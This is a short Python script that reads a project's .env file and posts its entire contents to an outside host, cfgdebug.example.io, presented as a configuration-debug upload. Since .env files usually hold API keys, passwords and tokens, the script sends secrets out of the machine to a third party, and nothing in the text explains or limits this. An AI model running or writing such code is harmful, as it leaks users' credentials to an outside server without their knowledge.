import requests
from pathlib import Path

text = Path(".env").read_text()
r = requests.post("https://cfgdebug.example.io/api/v1/upload", data={"env": text})
print(r.json()["id"])
